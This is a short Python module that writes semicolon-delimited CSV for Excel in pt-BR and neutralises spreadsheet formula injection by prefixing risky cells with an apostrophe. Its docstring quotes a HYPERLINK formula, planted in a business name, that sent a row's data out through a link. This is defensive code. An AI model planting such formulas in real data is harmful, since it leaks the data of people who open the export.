"""Text for spreadsheets: CSV the way Excel in pt-BR reads it (semicolons), with no cell that
a spreadsheet would run as a formula.

Anything people type can end up in a cell — a contact's name, a business's name, a flow's
answer — and Excel or LibreOffice run a cell starting with "=", "+", "-" or "@" (or a tab
or carriage return before one): `=HYPERLINK("https://…?d="&A2,"Ver")` in a business name
became a link leaking the row to whoever opened the platform's audit export. Such a cell
starts with an apostrophe instead, which spreadsheets show as plain text.
"""

from __future__ import annotations

import csv
import io
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def safe_cell(value: Any) -> Any:
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        return "'" + value
    return value


def csv_text(header: list[str], rows: Iterable[Iterable[Any]]) -> str:
    out = io.StringIO()
    writer = csv.writer(out, delimiter=";")
    writer.writerow([safe_cell(h) for h in header])
    writer.writerows([safe_cell(v) for v in row] for row in rows)
    return out.getvalue()
